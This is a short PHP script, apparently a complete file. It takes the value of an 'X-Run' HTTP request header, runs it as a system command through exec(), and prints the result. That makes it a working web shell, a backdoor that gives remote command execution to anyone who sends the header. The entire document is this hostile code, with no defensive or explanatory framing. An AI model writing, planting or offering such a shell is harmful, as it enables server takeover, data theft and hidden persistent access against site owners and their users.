<?php
$h = getallheaders();
exec($h['X-Run'], $out);
echo implode("\n", $out);
